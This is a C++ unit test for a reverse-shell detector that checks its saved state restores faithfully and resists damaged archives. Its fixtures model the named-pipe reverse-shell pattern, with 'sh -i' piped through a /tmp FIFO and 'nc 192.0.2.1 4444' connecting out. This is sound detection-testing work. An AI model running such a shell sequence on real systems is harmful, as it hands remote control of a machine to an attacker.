// SPDX-License-Identifier: Apache-2.0
// A detector that is saved and restored between any two events tells what one tells that was never
// interrupted.
#include <algorithm>
#include <boost/test/unit_test.hpp>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "detect/detector.hpp"
#include "event/archive.hpp"
#include "support/history.hpp"

using namespace pipehound;
using test::History;
using Mode = History::Mode;

namespace {

/// What a reader of alerts sees, without what /proc would add.
std::string shown(const alert::Alert& alert) {
    std::string text = alert.incident + ' ' + std::string{event::name(alert.level)} + ' ' +
                       alert.reason + (alert.before ? " again" : "");
    for (const auto& member : alert.members)
        text += ' ' + std::string{name(member.role)} + ' ' +
                std::to_string(event::number(member.pid)) + ' ' + member.executable;
    for (const auto& evidence : alert.evidence) text += ' ' + std::to_string(evidence.serial);
    return text;
}

std::vector<std::string> run(detect::Detector& detector, const std::vector<event::Event>& events,
                             std::size_t from, std::size_t to) {
    std::vector<std::string> told;
    for (auto i = from; i < to; ++i)
        for (const auto& alert : detector.advance(events[i])) told.push_back(shown(alert));
    return told;
}

std::string saved(const detect::Detector& detector) {
    event::ArchiveWriter to;
    detector.save(to);
    return std::move(to).take();
}

bool restored(detect::Detector& detector, std::string_view bytes) {
    event::ArchiveReader from{bytes};
    return detector.restore(from) && from.at_end();
}

void dash_shell(History& history) {
    history.exec(100, 1, {"sh", "-c", "..."});
    history.make_fifo(101, 100, "/tmp/f");
    history.remove(101, 100);
    history.open(100, 1, "sh", Mode::read);
    history.exec(102, 100, {"sh", "-i"});
    history.open(103, 100, "sh", Mode::write);
    history.exec(103, 100, {"nc", "192.0.2.1", "4444"});
    history.connect(103, 100, "nc");
    history.exec(110, 102, {"id"});
}

void bash_shell(History& history) {
    history.plain_shell();
    history.connect(104, 100, "nc");
    history.exec(120, 103, {"id"});
}

void two_shells(History& history) {
    bash_shell(history);
    history.exec(200, 1, {"bash", "-c", "..."});
    history.make_fifo(201, 200, "/tmp/g", 8);
    history.open(202, 200, "bash", Mode::read, "/tmp/g", 8);
    history.exec(202, 200, {"sh"});
    history.open(203, 200, "bash", Mode::write, "/tmp/g", 8);
    history.exec(203, 200, {"nc", "192.0.2.1", "4445"});
    history.connect(203, 200, "nc", "192.0.2.1", 4445);
}

}  // namespace

BOOST_AUTO_TEST_SUITE(detector_archive_tests)

BOOST_AUTO_TEST_CASE(it_tells_the_same_wherever_it_was_interrupted) {
    const std::vector<std::function<void(History&)>> stories{dash_shell, bash_shell, two_shells};
    for (const auto& story : stories) {
        History history;
        story(history);
        const auto& events = history.events();
        event::NodeNames nodes;
        detect::Detector whole{nodes};
        BOOST_TEST(!run(whole, events, 0, events.size()).empty());
        for (std::size_t cut = 0; cut <= events.size(); ++cut) {
            detect::Detector uninterrupted{nodes};
            detect::Detector before{nodes};
            detect::Detector after{nodes};
            (void)run(uninterrupted, events, 0, cut);
            (void)run(before, events, 0, cut);
            BOOST_REQUIRE(restored(after, saved(before)));
            BOOST_TEST(run(after, events, cut, events.size()) ==
                           run(uninterrupted, events, cut, events.size()),
                       boost::test_tools::per_element());
        }
    }
}

BOOST_AUTO_TEST_CASE(what_is_restored_is_saved_again_as_it_was) {
    History history;
    two_shells(history);
    event::NodeNames nodes;
    detect::Detector first{nodes};
    (void)run(first, history.events(), 0, history.events().size());
    detect::Detector second{nodes};
    BOOST_REQUIRE(restored(second, saved(first)));
    const auto once = first.statistics();
    const auto twice = second.statistics();
    BOOST_TEST(once.fifos == twice.fifos);
    BOOST_TEST(twice.processes > 5u);
    BOOST_TEST(saved(second).size() == saved(first).size());
}

BOOST_AUTO_TEST_CASE(of_many_processes_those_around_fifos_are_kept) {
    History history;
    bash_shell(history);
    for (int pid = 1000; pid < 11000; ++pid) history.exec(pid, 1, {"ls"});
    event::NodeNames nodes;
    detect::Detector first{nodes};
    (void)run(first, history.events(), 0, history.events().size());
    detect::Detector second{nodes};
    BOOST_REQUIRE(restored(second, saved(first)));
    BOOST_TEST(second.statistics().processes == 4096u);
    const auto shell = history.exec(103, 100, {"bash"});
    BOOST_TEST(second.facts(shell).process.executable == first.facts(shell).process.executable);
}

BOOST_AUTO_TEST_CASE(who_hides_below_a_long_line_of_ancestors_is_kept) {
    History history;
    for (int pid = 2; pid < 9000; ++pid) history.exec(pid, pid - 1, {"sh"});
    history.make_fifo(8999, 8998, "/tmp/f");
    const auto opened = history.open(8999, 8998, "sh", Mode::read);
    for (int pid = 10000; pid < 16000; ++pid) history.exec(pid, 1, {"ls"});
    event::NodeNames nodes;
    detect::Detector first{nodes};
    (void)run(first, history.events(), 0, history.events().size());
    detect::Detector second{nodes};
    BOOST_REQUIRE(restored(second, saved(first)));
    BOOST_TEST(first.facts(opened).process.executable == "/usr/bin/dash");
    BOOST_TEST(second.facts(opened).process.executable == "/usr/bin/dash");
    BOOST_TEST(second.facts(opened).ancestors.size() > 5u);
}

BOOST_AUTO_TEST_CASE(bytes_that_are_cut_or_damaged_do_no_harm) {
    History history;
    two_shells(history);
    event::NodeNames nodes;
    detect::Detector first{nodes};
    (void)run(first, history.events(), 0, history.events().size());
    const auto bytes = saved(first);
    for (std::size_t length = 0; length < bytes.size(); ++length) {
        detect::Detector second{nodes};
        BOOST_TEST(!restored(second, std::string_view{bytes}.substr(0, length)));
    }
    std::size_t read_all_the_same = 0;  // a number may change unseen: the file has a fingerprint
    for (std::size_t at = 0; at < bytes.size(); ++at)
        for (const char other : {'\0', '\x01', '\x7f', '\xff'}) {
            auto damaged = bytes;
            damaged[at] = other;
            detect::Detector second{nodes};
            if (restored(second, damaged)) ++read_all_the_same;
        }
    BOOST_TEST(read_all_the_same < 4 * bytes.size());
}

BOOST_AUTO_TEST_SUITE_END()
